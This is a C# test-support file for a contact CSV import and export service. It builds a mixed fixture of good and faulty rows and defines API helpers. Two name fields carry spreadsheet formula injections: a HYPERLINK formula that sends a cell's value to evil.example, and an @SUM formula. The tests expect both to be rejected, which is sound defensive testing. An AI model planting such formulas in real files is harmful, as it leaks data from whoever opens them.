using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Kabar.Tests.Infrastructure;

namespace Kabar.Tests.Transfers;

/// <summary>Files and calls shared by the import and export tests.</summary>
public static class TransferSupport
{
    /// <summary>
    /// An office's file with three good rows between bad ones: a number that is no number, the same
    /// person twice, formulas, a Windows-1252 name, consents without their evidence or with an
    /// unknown text, and evidence without a consent.
    /// </summary>
    public static byte[] MixedFile()
    {
        var utf8 = Encoding.UTF8;
        var bytes = new List<byte>();
        bytes.AddRange(utf8.GetBytes("""
            phone,name,email,consent,consent_source,consent_at,text_version
            0812-7777-0001,Siti Aminah,siti@example.id,granted,formulir loket,2024-03-15,daftar-v1
            0812-7777-0002,Budi,,,,,
            12345,Ani,,,,,
            0812 7777 0001,Siti Lagi,,,,,
            0812-7777-0005,"=HYPERLINK(""http://evil.example/?x=""&A1)",,,,,

            """.Replace("\r\n", "\n", StringComparison.Ordinal)));
        // Line 7: "José" as Excel's plain CSV on Windows writes it (0xE9 is not UTF-8).
        bytes.AddRange(utf8.GetBytes("0812-7777-0006,Jos"));
        bytes.Add(0xE9);
        bytes.AddRange(utf8.GetBytes("""
            ,,,,,
            0812-7777-0007,Made,,granted,,2024-01-01,daftar-v1
            0812-7777-0008,Wayan,,granted,formulir,2024-01-01,brosur-v9
            0812-7777-0009,Ketut,,,formulir,2024-01-01,
            +6281277770010,@SUM(1+1),,,,,
            0812-7777-0011,Dewi,dewi@example.id,withdrawn,telepon ke loket,2025-06-01,

            """.Replace("\r\n", "\n", StringComparison.Ordinal)));
        return bytes.ToArray();
    }

    /// <summary>The (line, column) of each error the mixed file must report.</summary>
    public static readonly (int, string)[] MixedFileErrors =
    [
        (4, "phone"), (5, "phone"), (6, "name"), (7, "name"), (8, "consent_source"), (9, "text_version"), (10, "consent"), (11, "name"),
    ];

    public static async Task<JsonElement> ImportAsync(this KabarApp app, byte[] csv, string query = "",
        HttpStatusCode expected = HttpStatusCode.OK)
    {
        using var api = app.Api();
        using var content = new ByteArrayContent(csv);
        content.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        using var response = await api.PostAsync("/api/imports/contacts" + query, content);
        await Http.AssertStatusAsync(response, expected);
        return await KabarApp.ReadAsync<JsonElement>(response);
    }

    public static Task<JsonElement> ImportAsync(this KabarApp app, string csv, string query = "") =>
        app.ImportAsync(Encoding.UTF8.GetBytes(csv), query);

    public static List<(int Line, string Column)> Errors(JsonElement report, string property = "errors") =>
        report.GetProperty(property).EnumerateArray().Select(e => (e.GetProperty("line").GetInt32(), e.GetProperty("column").GetString()!)).ToList();

    public static (int Rows, int Created, int Updated, int Unchanged, int Rejected, int Consents) Counts(JsonElement r) =>
        (r.GetProperty("rows").GetInt32(), r.GetProperty("created").GetInt32(), r.GetProperty("updated").GetInt32(),
            r.GetProperty("unchanged").GetInt32(), r.GetProperty("rejected").GetInt32(), r.GetProperty("consentsRecorded").GetInt32());

    public static async Task<JsonElement> PostContactAsync(this KabarApp app, object body)
    {
        using var api = app.Api();
        using var response = await api.PostAsJsonAsync("/api/contacts", body);
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
        return await KabarApp.ReadAsync<JsonElement>(response);
    }

    /// <summary>Downloads an export through the API: the CSV's bytes and its export id.</summary>
    public static async Task<(byte[] Csv, Guid Id, HttpResponseMessage Response)> ExportAsync(this KabarApp app, bool consented)
    {
        using var api = app.Api();
        var response = await api.GetAsync($"/api/exports/contacts.csv{(consented ? "?consented=true" : "")}", HttpCompletionOption.ResponseHeadersRead);
        await Http.AssertStatusAsync(response, HttpStatusCode.OK);
        var csv = await response.Content.ReadAsByteArrayAsync();
        return (csv, Guid.Parse(response.Headers.GetValues("Kabar-Export-Id").Single()), response);
    }

    public static async Task<string> ManifestAsync(this KabarApp app, Guid id)
    {
        using var api = app.Api();
        using var response = await api.GetAsync($"/api/exports/{id}/manifest");
        await Http.AssertStatusAsync(response, HttpStatusCode.OK);
        return await response.Content.ReadAsStringAsync();
    }

    /// <summary>The data lines of a CSV export (without the BOM and header).</summary>
    public static string[] DataLines(byte[] csv) =>
        Encoding.UTF8.GetString(csv).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries)[1..];
}
